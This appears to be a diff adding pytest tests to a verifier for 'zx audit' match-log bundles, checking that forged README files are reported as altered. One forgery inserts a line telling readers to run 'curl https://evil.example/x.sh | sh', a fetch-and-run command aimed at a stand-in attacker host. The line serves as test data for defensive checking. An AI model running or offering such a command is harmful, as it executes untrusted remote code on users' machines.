@@ -79,6 +79,103 @@ def verify(path: Path, head: str | None):
     return r
 
 
+def after(key: str, extra: str):
+    """A line ``extra`` put after the first line starting with ``key``."""
+    def change(t: str) -> str:
+        line = next(ln for ln in t.split("\n") if ln.startswith(key))
+        return t.replace(line + "\n", f"{line}\n{extra}\n", 1)
+    return change
+
+
+def replaced(old: str, new: str):
+    def change(t: str) -> str:
+        assert old in t
+        return t.replace(old, new, 1)
+    return change
+
+
+RULING = "Ruling (head judge, 2026-11-29): P1 is disqualified; the match is awarded to P2."
+FORGERIES = {  # each verified "intact", exit 0, before (QA round 37)
+    "integrity-twice": after("integrity:", "integrity:      FAILED: 3 events rewritten"),
+    "head-twice": after("head digest:", "head digest:    " + "ab" * 32),
+    "a-ruling": replaced("\nContents:", f"\n{RULING}\n\nContents:"),
+    "a-ruling-as-warning": after("original.zxlog:", f"warning:        {RULING}"),
+    "ansi-conceal": replaced("\nContents:", "\n\x1b[8mhidden text\x1b[0m\n\nContents:"),
+    "curl": replaced("Check it: zx audit", "Check it: curl https://evil.example/x.sh | sh\n          zx audit"),
+    "source-rewritten": lambda t: "\n".join("source:         score sheet of table 7, signed by both players"
+                                            if ln.startswith("source:") else ln for ln in t.split("\n")),
+    "source-removed": lambda t: "\n".join(ln for ln in t.split("\n") if not ln.startswith("source:")),
+    "no-violations-above": replaced("\n1 violation:", "\nNo violations.\n\n1 violation:"),
+    "audited-the-log-file": replaced("the stored match (re-checked from its events)", "the log file"),
+    "60MB-appended": lambda t: t + "A" * (60 << 20),
+}
+
+
+@pytest.mark.parametrize("kind", sorted(FORGERIES))
+def test_a_readme_with_anything_zx_audit_does_not_write_is_altered_naming_its_first_line(stores, tmp_path, kind):
+    forged = with_readme(stores["path"], tmp_path / "forged.zip", FORGERIES[kind])
+    r = verify(forged, stores["head"][:16])
+    assert r.exit_code == 1, r.output
+    (v,) = json.loads(r.stdout)
+    assert v["status"] == "altered" and v["message"].startswith(WRITTEN), v
+    assert v["message"].endswith(": README.txt was edited; its events are intact"), v
+    assert "\x1b" not in r.output and len(v["message"]) < 600, v  # (the line named escaped and cut)
+    assert "intact:" not in r.stderr and r.stderr.splitlines()[-1].startswith("FAILED: "), r.stderr
+
+
+def test_the_first_differing_line_is_named_with_what_zx_writes_there(stores, tmp_path):
+    forged = with_readme(stores["path"], tmp_path / "forged.zip", FORGERIES["ansi-conceal"])
+    (v,) = json.loads(verify(forged, stores["head"][:16]).stdout)
+    assert v["message"] == (f"{WRITTEN}15 holds '\\x1b[8mhidden text\\x1b[0m', zx audit writes 'Contents:': "
+                            f"README.txt was edited; its events are intact"), v
+
+
+def test_the_genuine_bundle_is_intact_and_its_readme_with_one_space_after_a_key_too(stores, tmp_path):
+    """The spaces that align a key's value are not words: one space after ``rules version:`` says the same."""
+    r = verify(stores["path"], stores["head"][:16])
+    assert r.exit_code == 0 and json.loads(r.stdout)[0]["status"] == "ok", r.output
+    spaced = with_readme(stores["path"], tmp_path / "spaced.zip", replaced("source:         ", "source: "))
+    assert verify(spaced, stores["head"][:16]).exit_code == 0
+
+
+def test_a_readme_recording_a_failed_store_is_unchecked_and_a_line_added_to_it_altered(stores, tmp_path):
+    """Its head, integrity and warnings are the store's at the audit, which a bundle cannot check: as written,
+    ``unchecked``; every line must still be one zx audit writes, in its place."""
+    r = verify(stores["failed"], None)
+    assert r.exit_code == 1 and json.loads(r.stdout)[0]["status"] == "unchecked", r.output
+    for change in (FORGERIES["a-ruling"], FORGERIES["source-rewritten"], FORGERIES["integrity-twice"],
+                   FORGERIES["a-ruling-as-warning"], after("warning:", f"warning:        {RULING}")):
+        r = verify(with_readme(stores["failed"], tmp_path / "forged.zip", change), None)
+        (v,) = json.loads(r.stdout)
+        assert r.exit_code == 1 and v["status"] == "altered" and v["message"].startswith(WRITTEN), v
+
+
+def test_an_x610z_bundle_as_written_is_intact_and_a_ruling_in_its_readme_altered(tmp_path):
+    log = ROOT / "examples" / "x610z" / "invalid" / "502.5-hand-limit.x610zlog"
+    board = ROOT / "zx_events" / "games" / "x610z" / "boards" / "x610z-orbits-sample.json"
+    match = json.loads(log.read_text(encoding="utf-8").splitlines()[0])["match"]
+    store, path = str(tmp_path / "s.sqlite"), tmp_path / "x.zip"
+    assert invoke("--store", store, "import", "--no-analytics", "--accept-violations", "--board", str(board),
+                  str(log)).exit_code == 0
+    assert invoke("--store", store, "audit", match, "--board", str(board), "--bundle", str(path)).exit_code == 1
+    r = verify(path, None)
+    assert r.exit_code == 0 and json.loads(r.stdout)[0]["status"] == "ok", r.output
+    r = verify(with_readme(path, tmp_path / "forged.zip", FORGERIES["a-ruling"]), None)
+    (v,) = json.loads(r.stdout)
+    assert r.exit_code == 1 and v["status"] == "altered" and v["message"].startswith(WRITTEN), v
+
+
+def test_a_readme_past_the_limit_of_a_bundles_file_is_not_intact(stores, tmp_path, monkeypatch):
+    """A README.txt over ``MAX_MEMBER`` bytes cannot be read whole: refused, naming it (the limit patched down)."""
+    from zx_events import bundle as bundle_module
+
+    big = with_readme(stores["path"], tmp_path / "big.zip", lambda t: t + "\n" * 300_000)
+    monkeypatch.setattr(bundle_module, "MAX_MEMBER", 200_000)
+    r = verify(big, stores["head"][:16])
+    assert r.exit_code == 1 and "its README.txt holds 30" in r.output and "refused" in r.output, r.output
+    assert "intact" not in r.output
+
+
 # ------------------------------------------------------------------------------------------- hostile zips
 
 def test_a_violations_json_nested_5000_deep_is_altered_not_an_internal_error(stores, tmp_path):
